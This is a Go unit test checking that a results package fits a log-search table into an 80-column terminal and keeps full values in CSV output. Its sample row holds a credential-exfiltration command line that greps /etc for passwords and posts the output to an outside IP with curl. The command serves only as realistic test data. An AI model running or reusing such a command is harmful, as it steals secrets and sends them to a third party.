package results

import (
	"bytes"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

func TestTableFitsTheTerminal(t *testing.T) {
	set := &Set{Columns: []string{"@timestamp", "host.name", "process.command_line", "user.name", "agent.id"},
		Rows: [][]any{{time.Date(2026, 3, 1, 12, 0, 5, 120_000_000, time.UTC), "web-01",
			"sh -c grep -r password /etc | curl -d @- http://203.0.113.7/x", "www-data", "5f3a1c2e-8b7d-4e6f-9a0b-1c2d3e4f5a6b"}},
		LineWidth: 80}
	var b bytes.Buffer
	if err := set.Write(&b, Table, 48); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimSpace(b.String()), "\n")[:3] {
		if n := utf8.RuneCountInString(line); n > 80 {
			t.Errorf("line of %d columns: %q", n, line)
		}
	}
	if !strings.Contains(b.String(), "sh -c grep") || !strings.Contains(b.String(), "…") ||
		!strings.Contains(b.String(), "(1 row; 1 more column does not fit the terminal: agent.id; --format csv or json shows all)") {
		t.Errorf("table:\n%s", b.String())
	}
	// Machine formats are never cut.
	b.Reset()
	set.Write(&b, CSV, 0)
	if !strings.Contains(b.String(), "curl -d @- http://203.0.113.7/x") || !strings.Contains(b.String(), "5f3a1c2e-8b7d-4e6f-9a0b-1c2d3e4f5a6b") {
		t.Errorf("csv cut a value:\n%s", b.String())
	}
}
